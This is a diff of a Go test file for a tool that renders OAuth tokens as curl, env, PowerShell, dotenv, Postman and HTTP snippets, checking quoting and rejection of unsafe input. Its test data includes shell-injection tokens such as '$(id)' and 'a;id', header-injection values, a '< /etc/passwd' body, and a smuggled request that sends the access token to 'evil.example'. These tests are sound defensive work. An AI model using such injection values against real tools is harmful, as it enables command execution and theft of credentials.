@@ -1,220 +1,168 @@
 package copyas
 
 import (
-	"bytes"
-	"os"
+	"encoding/json"
+	"errors"
+	"regexp"
+	"strconv"
 	"strings"
 	"testing"
 
-	"mvdan.cc/sh/v3/expand"
-	"mvdan.cc/sh/v3/syntax"
 	"pgregory.net/rapid"
 
 	"tokendesk/oauth"
+	"tokendesk/oauth/visible"
 )
 
-// words reads a line as a shell does and returns its words; it fails when the
-// line is anything but one plain command.
-func words(t *rapid.T, line string) []string {
-	file, err := syntax.NewParser(syntax.Variant(syntax.LangPOSIX)).Parse(strings.NewReader(line), "")
-	if err != nil {
-		t.Fatalf("%q: %v", line, err)
-	}
-	if len(file.Stmts) != 1 {
-		t.Fatalf("%q holds %d commands", line, len(file.Stmts))
-	}
-	call, ok := file.Stmts[0].Cmd.(*syntax.CallExpr)
-	if !ok || len(file.Stmts[0].Redirs) > 0 || file.Stmts[0].Background {
-		t.Fatalf("%q is no plain command", line)
-	}
-	fields, err := expand.Fields(&expand.Config{Env: expand.FuncEnviron(os.Getenv)}, call.Args...)
-	if err != nil {
-		t.Fatalf("%q: %v", line, err)
-	}
-	return fields
-}
-
-// anyToken draws what a server may send: control characters are refused long
-// before a token is written anywhere.
-func anyToken() *rapid.Generator[string] {
-	return rapid.StringOfN(rapid.OneOf(
-		rapid.RuneFrom([]rune("'\"\\$`!#&;|<>(){}[]*?~ %=\u2018\u2019\u201a\u201b")),
-		rapid.Rune().Filter(func(r rune) bool { return r >= ' ' && r != 0x7f && r != '\ufffd' }),
-	), 1, 60, -1)
-}
-
-func TestCurlLineGivesTheTokenBack(t *testing.T) {
-	rapid.Check(t, func(t *rapid.T) {
-		token, body := anyToken().Draw(t, "token"), anyToken().Draw(t, "body")
-		vars := rapid.StringMatching(`[A-Za-z0-9._~'!$&()*+,;=:@\[\]-]{1,30}`).Draw(t, "var") // what an address may hold
-		app := oauth.App{ID: "a", Vars: map[string]string{"v": vars}, Test: oauth.TestCall{
-			Method: "PUT", URL: "https://api.example.test/{v}", Body: "@" + strings.ReplaceAll(body, "{", ""),
-		}}
-		ts := oauth.TokenSet{AccessToken: token}
-		line, err := Render(Curl, app, ts, now, "")
-		if err != nil {
-			t.Fatal(err)
-		}
-		got := words(t, line)
-		call := oauth.TestRequest(app, ts)
-		want := []string{"curl", "-H", "Authorization: Bearer " + token, "-X", "PUT", "--data-raw", call.Body}
-		if strings.ContainsAny(call.URL, "[]{}") {
-			want = append(want, "--globoff")
-		}
-		want = append(want, call.URL)
-		if strings.Join(got, "\x00") != strings.Join(want, "\x00") {
-			t.Fatalf("\ngot  %q\nwant %q", got, want)
-		}
-	})
-}
-
-func TestEnvLineGivesTheTokenBack(t *testing.T) {
-	rapid.Check(t, func(t *rapid.T) {
-		token := anyToken().Draw(t, "token")
-		line, err := Render(Env, shop, oauth.TokenSet{AccessToken: token}, now, "TOKEN")
-		if err != nil {
-			t.Fatal(err)
-		}
-		assignment, ok := strings.CutPrefix(line, "export ")
-		if !ok {
-			t.Fatalf("%q exports nothing", line)
-		}
-		if got := words(t, "echo "+assignment); len(got) != 2 || got[1] != "TOKEN="+token {
-			t.Fatalf("%q gives %q", line, got)
-		}
-	})
-}
-
-// unquotePowerShell reads a single-quoted PowerShell string.
-func unquotePowerShell(s string) (string, bool) {
+// readPowerShell reads a single-quoted PowerShell string, or a sum of such and of
+// numbered characters in parentheses.
+func readPowerShell(s string) (string, bool) {
 	const quotes = "'\u2018\u2019\u201a\u201b"
-	runes := []rune(s)
-	if len(runes) < 2 || runes[0] != '\'' || runes[len(runes)-1] != '\'' {
-		return "", false
+	sum := strings.HasPrefix(s, "(") && strings.HasSuffix(s, ")")
+	if sum {
+		s = s[1 : len(s)-1]
 	}
+	numbered := regexp.MustCompile(`^\[char\]::ConvertFromUtf32\((\d+)\)`)
 	var b strings.Builder
-	for inner := runes[1 : len(runes)-1]; len(inner) > 0; inner = inner[1:] {
-		if strings.ContainsRune(quotes, inner[0]) {
-			if len(inner) < 2 || !strings.ContainsRune(quotes, inner[1]) {
-				return "", false // the string ended here
+	for first := true; s != ""; first = false {
+		if !first {
+			rest, ok := strings.CutPrefix(s, "+")
+			if !ok || !sum {
+				return "", false // the string ended before
 			}
-			b.WriteRune(inner[0])
-			inner = inner[1:]
+			s = rest
+		}
+		if m := numbered.FindStringSubmatch(s); m != nil && !first {
+			n, _ := strconv.Atoi(m[1])
+			b.WriteRune(rune(n))
+			s = s[len(m[0]):]
 			continue
 		}
-		b.WriteRune(inner[0])
+		runes := []rune(s)
+		if runes[0] != '\'' {
+			return "", false
+		}
+		for runes = runes[1:]; ; runes = runes[1:] {
+			if len(runes) == 0 {
+				return "", false
+			}
+			if strings.ContainsRune(quotes, runes[0]) {
+				if len(runes) < 2 || !strings.ContainsRune(quotes, runes[1]) {
+					break
+				}
+				runes = runes[1:]
+			}
+			b.WriteRune(runes[0])
+		}
+		s = string(runes[1:])
 	}
 	return b.String(), true
 }
 
-func TestPowerShellStringHoldsTheToken(t *testing.T) {
+// anyText draws what a file may hold.
+func anyText() *rapid.Generator[string] {
+	return rapid.StringOfN(rapid.OneOf(
+		rapid.RuneFrom([]rune("'\"\\$`!#&;|<>(){}[]*?~ %=\u2018\u2019\u201a\u201b\n\x1b\u009b\u202e\u200b")),
+		rapid.Rune(),
+	), 1, 40, -1)
+}
+
+func TestPowerShellStringHoldsTheText(t *testing.T) {
 	rapid.Check(t, func(t *rapid.T) {
-		token := anyToken().Draw(t, "token")
-		if got, ok := unquotePowerShell(powerShellQuote(token)); !ok || got != token {
-			t.Fatalf("%q became %q", token, got)
+		text := anyText().Draw(t, "text")
+		quoted := powerShellQuote(text)
+		if got, ok := readPowerShell(quoted); !ok || got != text || visible.Contains(quoted) {
+			t.Fatalf("%q became %q", text, quoted)
 		}
 	})
 }
 
-// readDotenv reads a value as the common readers of .env files do.
-func readDotenv(s string) (string, bool) {
-	switch {
-	case strings.HasPrefix(s, "'"):
-		rest, ok := strings.CutSuffix(s[1:], "'")
-		return rest, ok && !strings.ContainsAny(rest, "'\n")
-	case strings.HasPrefix(s, `"`):
-		rest, ok := strings.CutSuffix(s[1:], `"`)
-		if !ok {
-			return "", false
-		}
-		var b bytes.Buffer
-		for i := 0; i < len(rest); i++ {
-			switch c := rest[i]; {
-			case c == '"' || c == '$':
-				return "", false
-			case c == '\\' && i+1 < len(rest):
-				i++
-				switch rest[i] {
-				case 'n':
-					b.WriteByte('\n')
-				case 'r':
-					b.WriteByte('\r')
-				default:
-					b.WriteByte(rest[i])
-				}
-			default:
-				b.WriteByte(c)
-			}
-		}
-		return b.String(), true
-	}
-	return s, !strings.ContainsAny(s, " #'\"\\$\n\r`")
-}
+// hiddenOnes has a character of each kind that does not show.
+var hiddenOnes = []string{"\x00", "\x1b", "\x7f", "\u0085", "\u009b", "\u00ad", "\u061c", "\u115f", "\u200b", "\u200d", "\u200e", "\u2028", "\u202e", "\u2060", "\u2066", "\u3164", "\ufe0f", "\ufeff", "\U000e0041", "\x9b"}
 
-// People source .env files, too: nothing in a value may run.
-func TestDotenvLineRunsNothing(t *testing.T) {
-	for _, token := range []string{"'`id`", "'$(id)", "'${HOME}", "a|id", "a;id", "a&id", "'\"\\`id`", "'\n`id`"} {
-		line, err := Render(Dotenv, oauth.App{}, oauth.TokenSet{AccessToken: token}, now, "")
-		if err != nil {
-			t.Fatal(err)
-		}
-		file, err := syntax.NewParser().Parse(strings.NewReader(line), "")
-		if err != nil {
-			t.Fatalf("%q: %v", line, err)
-		}
-		syntax.Walk(file, func(node syntax.Node) bool {
-			switch n := node.(type) {
-			case *syntax.CmdSubst, *syntax.ParamExp, *syntax.BinaryCmd:
-				t.Errorf("%q would be run as a %T", line, n)
-			case *syntax.CallExpr:
-				if len(n.Args) > 0 {
-					t.Errorf("%q runs a command", line)
+// No format hands out a character that does not show, wherever it comes from; a
+// JSON document says it all the same.
+func TestNothingHiddenIsHandedOut(t *testing.T) {
+	for _, hidden := range hiddenOnes {
+		for _, where := range []string{"token", "id token", "name", "header", "body", "JSON body", "address", "host", "extra"} {
+			app, ts := shop, set
+			app.Test = oauth.TestCall{Method: "POST", URL: "https://api.example.test/", Headers: map[string]string{}}
+			switch where {
+			case "token":
+				ts.AccessToken += hidden + "b"
+			case "id token":
+				ts.IDToken = "a" + hidden + "b"
+			case "name":
+				app.Name += hidden + "b"
+			case "header":
+				app.Test.Headers["X-A"] = "a" + hidden + "b"
+			case "body":
+				app.Test.Body = "a" + hidden + "b"
+			case "JSON body":
+				app.Test.Body = `{"a": "` + hidden + `b"}`
+			case "address":
+				app.Test.URL += "a" + hidden + "b?q=" + hidden
+			case "host":
+				app.Test.URL = "https://api" + hidden + ".example.test/"
+			case "extra":
+				ts.Extra = map[string]json.RawMessage{"k" + hidden: json.RawMessage(`"a` + hidden + `b"`)}
+				ts.TokenType = "Bearer" + hidden
+				ts.Scopes = []string{hidden}
+			}
+			for _, c := range Choices() {
+				text, err := Render(c.Format, app, ts, now, "")
+				if err == nil && visible.ContainsInLines(text) {
+					t.Errorf("%q in the %s comes out of %s: %q", hidden, where, c.Format, text)
+				}
+				var e *oauth.Error
+				if err != nil && (!errors.As(err, &e) || visible.Contains(e.Message+e.Advice)) {
+					t.Errorf("%q in the %s: %v", hidden, where, err)
 				}
 			}
-			return true
-		})
+		}
 	}
 }
 
-// A test call that came from a file cannot add a request to what is copied.
-func TestNoSecondRequestIsWritten(t *testing.T) {
-	sound := oauth.TestCall{Method: "POST", URL: "https://api.example.test/", Body: "b"}
-	for name, change := range map[string]func(*oauth.TestCall){
-		"body":         func(c *oauth.TestCall) { c.Body = "b\n\n###\nGET http://evil.example/?t={access_token}\n" },
-		"file of body": func(c *oauth.TestCall) { c.Body = "< /etc/passwd" },
-		"method":       func(c *oauth.TestCall) { c.Method = "GET http://evil.example/\n\n" },
-		"header name":  func(c *oauth.TestCall) { c.Headers = map[string]string{"X\nY": "1"} },
-		"header value": func(c *oauth.TestCall) { c.Headers = map[string]string{"X": "1\r\nY: 2"} },
+// What a token may not hold is refused where it would stand as it is.
+func TestATokenIsPrintableASCII(t *testing.T) {
+	for _, token := range []string{"tök", "a\u202eb", "a\nb", "a\x7f", "語"} {
+		ts := oauth.TokenSet{AccessToken: token, IDToken: token}
+		for _, c := range Choices() {
+			_, err := Render(c.Format, shop, ts, now, "")
+			if asJSON := c.Format == JSON || c.Format == Postman; (err == nil) != asJSON {
+				t.Errorf("%s of %q: %v", c.Format, token, err)
+			}
+		}
+	}
+}
+
+func TestPostmanFillsNothingInAToken(t *testing.T) {
+	if text, err := Render(Postman, shop, oauth.TokenSet{AccessToken: "a{{other}}"}, now, ""); err == nil {
+		t.Errorf("written: %s", text)
+	}
+}
+
+// An address is written as it goes over the wire.
+func TestAddressIsASCII(t *testing.T) {
+	for in, want := range map[string]string{
+		"https://api.example.test/a b?q=é\u202e#f": "https://api.example.test/a%20b?q=%C3%A9%E2%80%AE#f",
+		"https://bücher.example:8443/x":            "https://xn--bcher-kva.example:8443/x",
+		"https://api.example.test?q={a}[b]":        "https://api.example.test?q={a}[b]",
+		"http://[::1]:80/%41":                      "http://[::1]:80/%41",
 	} {
-		t.Run(name, func(t *testing.T) {
-			call := sound
-			change(&call)
-			if text, err := Render(HTTP, oauth.App{Test: call}, oauth.TokenSet{AccessToken: "T"}, now, ""); err == nil {
-				t.Errorf("written: %q", text)
-			}
-		})
-	}
-	if _, err := Render(HTTP, oauth.App{Test: sound}, oauth.TokenSet{AccessToken: "T"}, now, ""); err != nil {
-		t.Errorf("a sound call: %v", err)
+		if got, err := asciiURL(in); err != nil || got != want {
+			t.Errorf("%s becomes %s, %v", in, got, err)
+		}
 	}
 }
 
-func TestDotenvValueIsTheToken(t *testing.T) {
-	rapid.Check(t, func(t *rapid.T) {
-		token := anyToken().Draw(t, "token")
-		if got, ok := readDotenv(dotenvQuote(token)); !ok || got != token {
-			t.Fatalf("%q became %q", token, dotenvQuote(token))
+// Whatever dotenv refuses, it names what to do.
+func TestDotenvRefusals(t *testing.T) {
+	for _, token := range []string{`a\`, `it's "so"`, "$HOME", "${A}", "a'`id`", `\'`} {
+		_, err := Render(Dotenv, shop, oauth.TokenSet{AccessToken: token}, now, "")
+		var e *oauth.Error
+		if !errors.As(err, &e) || e.Kind != oauth.KindOther || !strings.Contains(e.Advice, "--format env") || strings.Contains(e.Message+e.Advice, token) && len(token) > 2 {
+			t.Errorf("%q: %v", token, err)
 		}
-	})
-}
-
-func TestFishStringHoldsTheToken(t *testing.T) {
-	unquote := strings.NewReplacer(`\\`, `\`, `\'`, `'`)
-	rapid.Check(t, func(t *rapid.T) {
-		token := anyToken().Draw(t, "token")
-		quoted := fishQuote(token)
-		if got := unquote.Replace(quoted[1 : len(quoted)-1]); got != token {
-			t.Fatalf("%q became %q", token, got)
-		}
-	})
+	}
 }
